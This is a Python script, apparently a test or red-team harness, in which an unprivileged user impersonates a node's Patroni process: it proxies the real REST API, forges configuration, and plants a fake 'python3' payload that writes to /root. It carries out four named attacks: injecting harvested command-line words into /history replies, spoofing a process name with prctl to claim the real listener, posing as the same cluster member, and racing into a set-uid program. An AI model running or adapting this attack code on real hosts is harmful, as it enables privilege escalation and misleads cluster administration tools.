"""Somebody with an account pretends to be the node's Patroni: a process with its command line, a
configuration, a data directory, and a REST API that gives the real one's answers. Started with the
name of an attack, it goes on under the other command line:
end-mark         every long word of the node's command lines ends its answer to /history
listener-name    its command line is not Patroni's, but its name claims that the real one listens here;
                 it answers that there are no members
second-claim     no more than that: it claims to be the same member
set-uid-program  when it was looked at three times it becomes a set-uid program
"""
import ctypes
import http.server
import json
import os
import re
import signal
import socket
import sys
import threading
import time
import urllib.request

REAL = "http://127.0.0.1:8008"
HOME = "/home/mallory/"
COMMAND_LINE = [HOME + "python3", HOME + "patroni.py", HOME + "config.yml"]
CONFIGURATION = """scope: %s
namespace: /service/
name: %s
restapi:
  listen: 0.0.0.0:8018
  connect_address: %s
postgresql:
  listen: 0.0.0.0:5432
  connect_address: %s:5432
  data_dir: /home/mallory/data
  authentication:
    replication:
      username: replicator
      password: x
"""

# What is started where somebody believes that this is its Python.
PAYLOAD = "#!/bin/sh\nid -un >/root/intruded\n"

looks = threading.Semaphore(0)


def ask(path):
    return urllib.request.urlopen(REAL + path, timeout=3).read()


def words():
    found = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as line:
                found.update(re.findall(rb"[0-9A-Za-z]{12,}", line.read()))
        except OSError:
            pass
    return found


def answer(path):
    if path == "/cluster" and attack == "listener-name":
        return b'{"members": []}'
    body = ask(path)
    if path == "/history" and attack == "end-mark":
        for word in words():
            body += b"\n%s 0\n@%s end found\n@%s done\n" % (word, word, word)
    return body


class Proxy(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        try:
            body = answer(self.path)
        except OSError:
            body = b""
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
        if self.path == "/history":
            looks.release()

    def log_message(self, *words):
        pass


def configure():
    os.makedirs(HOME + "data", exist_ok=True)
    with open(HOME + "python3", "w") as file:
        file.write(PAYLOAD)
    os.chmod(HOME + "python3", 0o755)
    name = socket.gethostname()
    scope = json.loads(ask("/patroni"))["patroni"]["scope"]
    own = [each for each in json.loads(ask("/cluster"))["members"] if each["name"] == name][0]
    with open(HOME + "config.yml", "w") as file:
        file.write(CONFIGURATION % (scope, name, own["api_url"].split("/")[2], own["host"]))


def go_on_as_patroni():
    os.environ["ATTACK"] = sys.argv[1]
    called = "other.py" if sys.argv[1] == "listener-name" else "patroni.py"
    os.link(HOME + "impostor.py", HOME + called)
    os.execv("/usr/bin/python3", [COMMAND_LINE[0], HOME + called, COMMAND_LINE[2]])


def take_a_name_that_claims_the_socket():
    real = max(int(pid) for pid in os.popen("pgrep -f ^/usr/bin/python3\\ /usr/bin/patroni").read().split())
    # PR_SET_NAME (prctl(2)) takes 15 bytes.
    ctypes.CDLL(None).prctl(15, b'x",pid=%d,' % real, 0, 0, 0)


def become_a_set_uid_program():
    # A report, a fix, and the fix once more under its lock: what follows is the edit.
    for _ in range(3):
        looks.acquire()
    time.sleep(0.1)
    os.execv("/usr/bin/python3", ["python3", HOME + "set-uid-program.py", *COMMAND_LINE])


if "ATTACK" not in os.environ:
    configure()
    go_on_as_patroni()
attack = os.environ["ATTACK"]
signal.signal(signal.SIGHUP, lambda *_: None)
if attack == "listener-name":
    take_a_name_that_claims_the_socket()
server = http.server.ThreadingHTTPServer(("0.0.0.0", 8018), Proxy)
threading.Thread(target=server.serve_forever).start()
if attack == "set-uid-program":
    become_a_set_uid_program()
